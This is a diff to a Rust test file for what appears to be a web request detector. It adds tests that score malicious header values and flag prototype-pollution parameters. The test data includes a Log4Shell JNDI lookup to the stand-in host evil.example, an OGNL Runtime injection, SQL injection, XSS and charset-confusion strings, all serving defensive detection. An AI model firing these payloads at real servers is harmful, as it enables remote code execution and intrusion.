@@ -61,7 +61,19 @@ fn headers_are_judged_by_their_names() {
     assert_eq!(score("Accept-Language", "' or 1=1 -- "), 5);
     assert_eq!(score("Range", &format!("bytes=0-{}", ",1-".repeat(20))), 3);
     assert_eq!(score("X-Original-URL", "/admin"), 2);
-    assert_eq!(score("Content-Type", "text/html; charset=utf-7"), 3);
+    assert_eq!(score("Content-Type", "text/html; charset=utf-7"), 5);
+    assert_eq!(score("Content-Type", "text/html; charset=\"IBM037\""), 5);
+    assert_eq!(score("Content-Type", "%{(#a='b').(#c=@java.lang.Runtime@getRuntime())}"), 5);
+    assert_eq!(score("Content-Type", "multipart/related; start=\"<root@example.org>\""), 0);
+    assert_eq!(score("If-None-Match", "${jndi:ldap://evil.example/a}"), 10);
+    assert_eq!(score("Authorization", "Bearer <script>alert(1)</script>"), 5);
+}
+
+#[test]
+fn an_objects_origin_is_a_name_like_no_other() {
+    check("__proto__=1", Rule::CodeInjection);
+    check("a__proto__b[c]=1", Rule::CodeInjection);
+    check_clean("proto=1&_proto_=2");
 }
 
 #[test]
